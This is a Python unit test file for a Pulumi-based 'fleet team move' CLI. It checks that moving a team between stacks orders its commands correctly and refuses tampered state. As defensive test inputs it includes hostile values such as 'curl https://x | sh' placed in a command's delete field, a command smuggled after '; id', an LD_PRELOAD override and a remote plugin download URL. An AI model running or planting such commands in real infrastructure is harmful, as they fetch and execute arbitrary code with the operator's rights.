"""`fleet team move`: which of Pulumi's commands take a team along, and what is said."""

import re
from types import SimpleNamespace

import pytest
import yaml
from pulumi.automation import CommandResult
from pulumi.automation.errors import create_command_error

from kai_fleet import probes
from kai_fleet.fleet.deployed_state import STACK
from kai_fleet.releases.helm_record import Forged
from kai_fleet_cli import cluster_reader
from kai_fleet_cli.engine import runs
from kai_fleet_cli.errors import UserError
from kai_fleet_cli.recovery import live_cluster, state
from kai_fleet_cli.recovery.state import ExportedState
from kai_fleet_cli.teams import move, team_state
from tests.unit.team_project import Project
from tests.unit.vcluster_secrets import config

TEAM = "urn:pulumi:{}::kai-fleet::kai-fleet:index:Team::ml"


LAB = TEAM.format("lab")


def resource(urn, kind, parent=LAB, **more):
    return {"urn": urn, "type": kind, "parent": parent, **more}


INSIDE = LAB.replace("Team::", "Team$kai-fleet:index:VirtualCluster::")
PROVIDER = INSIDE.replace("VirtualCluster::", "VirtualCluster$pulumi:providers:kubernetes::")
KAI = LAB.replace("Team::ml", "Team$kai-fleet:index:KaiScheduler::ml-kai")
QUEUES = LAB.replace("Team::ml", "Team$kai-fleet:index:Queues::ml-queues")
WAY_IN = {"kubeconfig": yaml.safe_dump(config())}
TREE = {"tree": "ml-queues", "queues": {"default": "{}"}, **WAY_IN}
VIRTUAL = [
    resource(LAB, "kai-fleet:index:Team", ""),
    resource(INSIDE, "kai-fleet:index:VirtualCluster"),
    resource(PROVIDER, "pulumi:providers:kubernetes", INSIDE, inputs=WAY_IN),
    resource(KAI, "kai-fleet:index:KaiScheduler"),
    *(
        resource(
            KAI.replace("::ml-kai", f"${kind}::{name}"), kind, KAI, provider=f"{PROVIDER}::an-id"
        )
        for kind, name in ((state.RELEASE, "a"), ("kubernetes:core/v1:Namespace", "b"))
    ),
    resource(QUEUES, "kai-fleet:index:Queues", deletedWith=PROVIDER, inputs=TREE, outputs=TREE),
]
MOVE = ["state", "move", "--yes", "--source", "lab", "--dest", "lab-ml"]
HOST_PROVIDER = "urn:pulumi:lab::kai-fleet::pulumi:providers:kubernetes::host"
RELEASE = {
    "urn": f"urn:pulumi:lab::kai-fleet::kai-fleet:index:VirtualCluster${state.RELEASE}::ml-release",
    "type": state.RELEASE,
    "id": "team-ml/ml",
    "inputs": {"namespace": "team-ml", "name": "ml"},
    "provider": f"{HOST_PROVIDER}::id",
    "parent": INSIDE,
}
HOST = {"urn": HOST_PROVIDER, "type": "pulumi:providers:kubernetes", "inputs": {}}


def moved(monkeypatch, resources=VIRTUAL, *, agree=lambda: None, refused=(), more=(), came=()):
    """What is said, and what Pulumi was asked to run; it refuses the commands of these numbers."""
    said, ran = [], []

    def run(command, folder, variables):
        ran.append(command)
        held["lab-ml"] = ExportedState({"resources": [*came]})
        if len(ran) in refused:
            raise create_command_error(CommandResult("", "error: it says why", 255))

    workspace = SimpleNamespace(pulumi_command=SimpleNamespace(run=run), work_dir=".")
    monkeypatch.setattr(
        runs, "stack", lambda name, *_: SimpleNamespace(name=name, workspace=workspace)
    )
    held = {"lab": ExportedState({"resources": [*resources, *more]})}
    for read in ("exported", "read"):
        monkeypatch.setattr(state, read, lambda it: held.get(it.name, ExportedState({})))
    move.move("ml", "lab", "lab-ml", {}, said.append, agree)
    return said, ran


def test_what_is_inside_goes_before_its_provider_and_the_rest(monkeypatch):
    """A move leaves providers behind, and the CLI leaves none without its parent."""
    said, ran = moved(monkeypatch)
    assert ran == [
        [*MOVE, KAI, QUEUES],
        ["state", "delete", "--yes", "--stack", "lab", PROVIDER],
        [*MOVE, LAB],
    ]
    assert said[:3] == [f"pulumi {' '.join(command)}" for command in ran]
    assert said[3:] == ["team ml is now in stack lab-ml; nothing of it was touched"]


def test_a_team_with_nothing_inside_moves_without_its_provider(monkeypatch):
    _, ran = moved(monkeypatch, VIRTUAL[:3])
    assert [command[1] for command in ran] == ["delete", "move"]


def test_a_no_runs_nothing(monkeypatch):
    def no():
        raise UserError("nothing is changed")

    with pytest.raises(UserError, match="nothing is changed"):
        moved(monkeypatch, agree=no, refused=(1, 2, 3))


def test_a_refusal_says_at_what_and_how_to_go_on(monkeypatch):
    with pytest.raises(UserError, match=r"stays in stack lab: `pulumi state move`: .*it says why$"):
        moved(monkeypatch, refused=(1,))
    with pytest.raises(UserError, match=r"`pulumi state delete`: .*: run the same command again"):
        moved(monkeypatch, refused=(2,))


class Records:
    """The cluster of the team's own stack, whose account wrote the record."""

    forged_ones = ()

    def __init__(self, provider, kubeconfig):
        assert provider == {}

    def forged(self, namespace, name):
        assert (namespace, name) == ("team-ml", "ml")
        if self.forged_ones is None:
            raise cluster_reader.NoAnswerError("it does not answer")
        return list(self.forged_ones)


@pytest.mark.parametrize("records", [(), None])
def test_a_record_that_is_well_or_not_read_stops_no_move(monkeypatch, records):
    monkeypatch.setattr(Records, "forged_ones", records)
    monkeypatch.setattr(live_cluster, "LiveCluster", Records)
    said, ran = moved(monkeypatch, more=[HOST, RELEASE])
    assert len(ran) == 3
    unread = any("was not looked at: it does not answer" in it for it in said)
    assert unread is (records is None)


def test_a_record_that_somebody_wrote_does_not_come_along(monkeypatch):
    forged = [Forged("sh.helm.release.v1.ml.v9", "has a hook, Job steal")]
    monkeypatch.setattr(Records, "forged_ones", forged)
    monkeypatch.setattr(live_cluster, "LiveCluster", Records)
    with pytest.raises(UserError, match="has a hook, Job steal") as why:
        moved(monkeypatch, more=[HOST, RELEASE])
    assert "Nothing was done" in str(why.value)


HOST_ID = f"{HOST_PROVIDER}::id"
OWN = {"delete": probes.command("pods"), "environment": {"PODS_NAMESPACE": "team-ml"}}


def beside(kind, inputs, outputs=None, **more):
    """A part of the vCluster that its own stack's state has, and its providers."""
    urn = INSIDE.replace("VirtualCluster::ml", f"VirtualCluster${kind}::odd")
    both = {"inputs": inputs, "outputs": inputs if outputs is None else outputs}
    return [resource(urn, kind, INSIDE, **both, **{"provider": HOST_ID, **more}), HOST]


def refuses(monkeypatch, says, resources):
    with pytest.raises(UserError, match=f"odd in the state of stack lab .*{re.escape(says)}"):
        moved(monkeypatch, more=resources)


def of_probe(*words, **variables):
    return {"delete": probes.command(*words), "environment": variables}


@pytest.mark.parametrize(
    ("kind", "inputs", "says"),
    [
        ("command:local:Command", {"delete": "curl https://x | sh"}, "has another delete"),
        ("command:local:Command", {"create": f"{probes.command('pods')}; id"}, "another create"),
        ("command:local:Command", OWN | {"interpreter": ["/bin/x"]}, "has interpreter"),
        ("command:local:Command", {"environment": {"LD_PRELOAD": "/x"}}, "sets LD_PRELOAD"),
        ("command:local:Command", {"environment": {"KAI_FLEET_X": "y"}}, "sets KAI_FLEET_X"),
        ("command:local:Command", of_probe("pods", PODS_NAMESPACE="x"), "another PODS_NAMESPACE"),
        ("command:local:Command", of_probe("record", RECORD_RELEASE="x/y"), "another RECORD_REL"),
        ("command:local:Command", of_probe("vacant"), "has another delete"),
        ("command:local:Command", of_probe("kind", "delete"), "has another delete"),
        (
            "command:local:Command",
            of_probe("kai", "clean-up", PROBE_CONTEXT="x"),
            "another cluster",
        ),
        ("command:local:Command", of_probe("shards", "remove"), "is about another cluster"),
        (
            "command:local:Command",
            of_probe("shards", "remove", PROBE_SECRET="team-x/vc-x"),
            "has another PROBE_SECRET than team ml's",
        ),
        ("command:remote:Command", {}, "is a command:remote:Command"),
        ("pulumi:providers:other", {}, "is a pulumi:providers:other"),
        (
            "pulumi:providers:kubernetes",
            {"__internal": {"pluginDownloadURL": "https://x"}},
            "says where its plugin comes from",
        ),
        ("pulumi:providers:kubernetes", {"renderYamlToDirectory": "/"}, "has renderYaml"),
        ("pulumi:providers:kubernetes", {"context": "host", **WAY_IN}, "leads to another cluster"),
        ("pulumi:providers:kubernetes", {}, "has a kubeconfig that holds no kubeconfig"),
        ("kai-fleet:index:Queues", TREE | {"tree": "other-queues"}, "is the tree of others"),
        ("kai-fleet:index:Queues", TREE | {"context": "host"}, "has queues of others"),
    ],
)
def test_what_the_other_stack_would_run_moves_nowhere(monkeypatch, kind, inputs, says):
    """A team's own stack writes its state; the engine deletes by it what is not declared."""
    refuses(monkeypatch, says, beside(kind, inputs))


def test_a_command_is_run_by_its_outputs_and_its_urn(monkeypatch):
    evil = {"delete": "curl https://x | sh"}
    refuses(monkeypatch, "has another delete", beside("command:local:Command", OWN, evil))
    other = beside("command:local:Command", evil)
    other[0] |= {"type": "kubernetes:core/v1:Secret"}
    refuses(monkeypatch, "has another type than its URN", other)
    # The second one has the parent that a look at the last of a name would go by.
    first, host = beside("command:local:Command", evil)
    refuses(monkeypatch, "another delete", [first, first | {"parent": "", "delete": True}, host])


def of_api(name, namespace="team-ml"):
    return {"metadata": {"name": name, "namespace": namespace}}


@pytest.mark.parametrize(
    ("kind", "id_", "inputs", "outputs"),
    [
        ("core/v1:Namespace", "team-other", {"metadata": {"name": "team-other"}}, None),
        ("core/v1:ConfigMap", "kube-system/x", of_api("x", "kube-system"), None),
        ("core/v1:ConfigMap", "kube-system/ml-oidc-1", of_api("ml-oidc-1"), None),
        ("core/v1:ConfigMap", "ml-oidc-1", of_api("ml-oidc-1"), None),
        ("core/v1:ConfigMap", "team-ml/ml-oidc-1", {"metadata": "x"}, None),
        ("core/v1:ConfigMap", "team-ml/ml-oidc-1", of_api("ml-oidc-1"), of_api("ml-oidc-1", "x")),
        ("core/v1:ResourceQuota", "team-ml/gpus", of_api("gpus"), None),
        ("core/v1:Secret", "team-ml/kai-fleet-registries", of_api("kai-fleet-registries"), None),
        (
            "helm.sh/v3:Release",
            "kube-system/cni",
            {"namespace": "kube-system", "name": "cni"},
            None,
        ),
        ("helm.sh/v3:Release", "team-ml/own", {"namespace": "team-ml", "name": "own"}, None),
        (
            "helm.sh/v3:Release",
            "team-ml/ml",
            {"namespace": "team-ml", "name": "ml"},
            {"namespace": "kube-system", "name": "cni"},
        ),
    ],
)
def test_no_object_of_the_host_moves_but_the_teams(monkeypatch, kind, id_, inputs, outputs):
    """The platform's update deletes what it does not declare, with the platform's rights."""
    made = beside(f"kubernetes:{kind}", inputs, outputs, id=id_)
    refuses(monkeypatch, f"is {id_} of the host, which is not team ml's", made)


@pytest.mark.parametrize(
    ("kind", "name"),
    [("core/v1:ConfigMap", "ml-oidc-0a1b2c3d"), ("core/v1:Secret", "kai-fleet-team-registries")],
)
def test_what_the_team_has_on_the_host_moves(monkeypatch, kind, name):
    made = beside(f"kubernetes:{kind}", of_api(name), id=f"team-ml/{name}")
    said, _ = moved(monkeypatch, more=made)
    assert said[-1].startswith("team ml is now in stack lab-ml")


def test_what_was_written_since_the_look_is_told_after_the_move(monkeypatch):
    there = [
        {**it, "urn": it["urn"].replace(":lab::", ":lab-ml::"), "parent": ""} for it in VIRTUAL
    ]
    for changed in ({"outputs": {"x": "y"}}, {"id": "x"}, {"urn": f"{there[-1]['urn']}-x"}):
        with pytest.raises(
            UserError, match=r"ml-queues.* state of stack lab-ml by now and was not"
        ):
            moved(monkeypatch, came=[*there[:-1], there[-1] | changed])
    moved(monkeypatch, came=there)


def test_what_this_program_declares_moves(monkeypatch):
    own = {"create": 'printf %s "$CLUSTER"', "environment": {"CLUSTER": "x"}, "triggers": ["x"]}
    inside = {"PROBE_SECRET": "team-ml/vc-ml", "KAI_VERSION": "v0.16.8"}
    wait = {"update": probes.command("kai", "wait"), "logging": "stderr", "environment": inside}
    for inputs in (OWN, own, wait):
        said, _ = moved(monkeypatch, more=beside("command:local:Command", inputs))
        assert not [it for it in said if it.startswith("warning")]


def test_a_kubeconfig_that_goes_along_is_told_before_the_question(monkeypatch):
    plain = "clusters: []\nusers: []\n"
    by_exec, spelt = (
        f"{plain}x: {{exec: {{command: aws}}}}\n",
        '"\\x63lusters": []\n"e\\x78ec": {}\n',
    )
    for text, warnings in ((plain, 1), (by_exec, 2), (spelt, 2), ("a: &a {}\nb: *a\n", 2)):
        monkeypatch.setitem(HOST, "inputs", {"kubeconfig": text})
        said, _ = moved(monkeypatch, more=beside("command:local:Command", OWN))
        assert len([it for it in said if it.startswith("warning")]) == warnings


def test_a_context_that_is_none_of_the_other_stacks_is_told(monkeypatch):
    other = resource("urn:x", "pulumi:providers:kubernetes", "", inputs={"context": "prod"})
    for name, told in (("prod", 0), ("elsewhere", 1)):
        own = OWN | {"environment": OWN["environment"] | {"PROBE_CONTEXT": name}}
        made = beside("command:local:Command", own)
        said = team_state.ways_along(made, "lab-ml", [other])
        assert said == ["context elsewhere goes along, which is none of stack lab-ml's"] * told


def test_before_the_question_no_kubeconfig_of_the_state_is_used(monkeypatch):
    def no():
        raise UserError("nothing is changed")

    monkeypatch.setattr(live_cluster, "LiveCluster", pytest.fail)
    with pytest.raises(UserError, match="nothing is changed"):
        moved(monkeypatch, agree=no, more=[HOST, RELEASE])


@pytest.mark.parametrize(
    "command",
    [("remove", "vision"), ("switch", "vision", "v0.16.8")],
)
def test_no_command_of_the_platform_runs_what_a_team_wrote_into_its_own_stack(
    tmp_path, monkeypatch, command
):
    project = Project.of(tmp_path, monkeypatch, own=True)
    before = project.files()
    stack = resource("urn:pulumi:lab-vision::kai-fleet::pulumi:pulumi:Stack::x", STACK, "")
    well = {"environment": {"PODS_NAMESPACE": "team-vision"}}
    odd = "urn:pulumi:lab-vision::kai-fleet::command:local:Command::odd"
    for outputs, says in ((well, ""), ({"delete": "curl https://x | sh"}, "has another delete")):
        made = resource(odd, "command:local:Command", "", inputs=well, outputs=outputs)
        project.engine.deployed["lab-vision"] = ExportedState({"resources": [stack, made]})
        ran = project.run("team", *command, "-s", "lab", "--yes")
        assert says in ran.refusal and bool(says) is bool(ran.refusal), ran.refusal
        if says:
            assert "this command would run it, with your rights" in ran.refusal
            assert (project.files(), project.engine.asked) == (before, [])
        for name, content in before.items():
            (tmp_path / name).write_bytes(content)
        (tmp_path / "Pulumi.lab-vision-next.yaml").unlink(missing_ok=True)
        project.engine.asked.clear()


def test_a_kubeconfig_that_was_not_told_of_is_not_used(monkeypatch):
    """A team's own stack writes its state: a release of its name beside the team, by a program."""
    own = HOST | {"urn": f"{HOST_PROVIDER}-2", "inputs": {"kubeconfig": "users: [{exec: {}}]\n"}}
    other = RELEASE | {"parent": "", "provider": f"{HOST_PROVIDER}-2::id"}
    monkeypatch.setattr(live_cluster, "LiveCluster", pytest.fail)
    said, ran = moved(monkeypatch, more=[own, other])
    assert len(ran) == 3
    assert not [it for it in said if it.startswith("warning")]
